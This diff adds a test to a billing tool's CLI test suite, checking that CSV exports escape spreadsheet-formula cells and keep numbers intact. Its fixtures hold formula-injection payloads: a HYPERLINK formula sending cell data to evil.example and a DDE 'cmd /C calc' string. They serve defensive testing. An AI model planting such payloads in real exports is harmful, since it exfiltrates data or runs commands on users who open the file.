@@ -651,6 +651,75 @@ def test_bad_arguments_are_clear(shop: dict[str, Any], tmp_path: Path) -> None:
     assert "is a folder" in fails(cli, 1, "export", "events", "-o", str(tmp_path))["message"]
 
 
+# --------------------------------------------------------------------------- formulas
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+HOSTILE = {"cmd": "=cmd|' /C calc'!A0", "sum": "+1+1", "at": "@SUM(A1)", "tab": "\t=1"}
+
+
+def test_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(
+    shop: dict[str, Any], tmp_path: Path
+) -> None:
+    """Text sent in with an ingest key that starts with = + - @ (or a tab) gets a leading '
+    in every CSV export; numbers (-5, -5.00) stay as they are; --raw and JSONL keep the
+    stored text, and a --raw events file imports back as duplicates only."""
+    cli = shop["cli"]
+    ok(cli, "charge", "add", "c1", "--amount", "3.00", "--description", HYPERLINK,
+       "--idempotency-key", "evil-charge", "--at", "2026-11-10T00:00:00Z")  # fmt: skip
+    hostile = [
+        _event("@evil", "c1", "api_calls", "2026-11-04T10:00:00Z",
+               properties={**HOSTILE, "delta": "-5", "minus": "-"}),
+        _event("plain", "c1", "api_calls", "2026-11-04T11:00:00Z", properties={"delta": -5}),
+    ]  # fmt: skip
+    ingest(cli, tmp_path / "hostile.jsonl", hostile)
+    ok(cli, "run", "bill", "--period", "2026-11", "--as-of", "2026-12-02T00:00:00Z")
+    ok(cli, "payment", "record", "ACME-000001", "1.00", "--reference", "=HYPERLINK(2)")
+
+    lines = {row["line"]: row for row in csv_rows(cli, "lines", "--period", "2026-11")}
+    assert [row["description"] for row in lines.values() if "HYPERLINK" in row["description"]] == [
+        "'" + HYPERLINK
+    ]
+    raw_lines = csv_rows(cli, "lines", "--period", "2026-11", "--raw")
+    assert HYPERLINK in [row["description"] for row in raw_lines]
+    assert HYPERLINK in [row["description"] for row in jsonl_rows(cli, "lines")]
+
+    events = {row["idempotency_key"]: row for row in csv_rows(cli, "events")}
+    assert "@evil" not in events
+    evil = events["'@evil"]
+    assert {name: evil[f"properties.{name}"] for name in HOSTILE} == {
+        name: "'" + text for name, text in HOSTILE.items()
+    }
+    assert (evil["properties.delta"], evil["properties.minus"]) == ("-5", "'-")
+    assert events["plain"]["properties.delta"] == "-5"  # a number stays a number
+    raw = {row["idempotency_key"]: row for row in csv_rows(cli, "events", "--raw")}
+    assert raw["@evil"]["properties.cmd"] == HOSTILE["cmd"]
+    assert raw["@evil"]["properties.tab"] == HOSTILE["tab"]
+    as_json = {row["idempotency_key"]: row for row in jsonl_rows(cli, "events")}
+    assert as_json["@evil"]["properties"]["sum"] == "+1+1"
+
+    payments = csv_rows(cli, "payments")
+    assert "'=HYPERLINK(2)" in [row["reference"] for row in payments]
+    # nothing to escape: byte for byte what --raw writes, negative amounts included
+    for kind in ("invoices", "ledger", "usage", "credits"):
+        assert exported(cli, kind).stdout == exported(cli, kind, "--raw").stdout, kind
+    ledger = exported(cli, "ledger").stdout
+    assert ",-" in ledger and ",'-" not in ledger
+
+    # --raw is what `neruba ingest` reads back: the text arrives as it was sent
+    (tmp_path / "raw.csv").write_text(exported(cli, "events", "--raw").stdout)
+    set_up(cli, tmp_path, "beta")
+    again = ok(cli, "ingest", str(tmp_path / "raw.csv"), project="beta")
+    assert (again["accepted"], again["rejected"]) == (len(EVENTS) + len(hostile), 0)
+    copied = {
+        row["idempotency_key"]: row
+        for row in map(
+            orjson.loads,
+            exported(cli, "events", "--format", "jsonl", project="beta").stdout.splitlines(),
+        )
+    }
+    assert {name: copied["@evil"]["properties"][name] for name in HOSTILE} == HOSTILE
+
+
 # --------------------------------------------------------------------------- round trip
 
 
